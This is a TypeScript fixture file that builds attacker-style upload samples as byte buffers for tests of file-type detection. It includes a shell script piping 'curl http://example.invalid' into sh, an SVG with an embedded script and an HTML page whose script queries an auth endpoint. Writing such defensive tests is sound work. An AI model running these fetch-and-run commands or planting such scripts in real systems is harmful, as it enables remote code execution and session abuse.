/*
 * Files an attacker would send, as bytes, for the hostile-input tests. Each is small and
 * carries the real magic bytes of its kind, so detection is tested on what it meets in the wild.
 */

/** The DOS header of a Windows program ("MZ" … "PE\0\0" at the offset in 0x3c). */
export function windowsProgram(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x84);
  return bytes;
}

/** A 64-bit little-endian ELF executable header. */
export function linuxProgram(): Buffer {
  const bytes = Buffer.alloc(128);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes, 0);
  bytes.writeUInt16LE(2, 16);
  bytes.writeUInt16LE(0x3e, 18);
  return bytes;
}

/** A zip holding leia-me.txt (made by Python's zipfile). */
export const ZIP = Buffer.from(
  'UEsDBBQAAAAAACarhl1qIDdPAwAAAAMAAAALAAAAbGVpYS1tZS50eHRvbGFQSwECFAMUAAAAAAAmq4ZdaiA3TwMAAAADAAAACwAAAAAAAAAAAAAAgAEAAAAAbGVpYS1tZS50eHRQSwUGAAAAAAEAAQA5AAAALAAAAAAA',
  'base64',
);

/** A 1×1 PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

export const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');

export const HTML_PAGE = Buffer.from(
  '<!doctype html><html><body><script>fetch("/trpc/auth.me")</script></body></html>',
);

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);

export const SVG_PLAIN = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect width="1" height="1"/></svg>',
);

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');

export const CSV = Buffer.from('nome;valor\nMaria;10,50\nJoão;7\n');
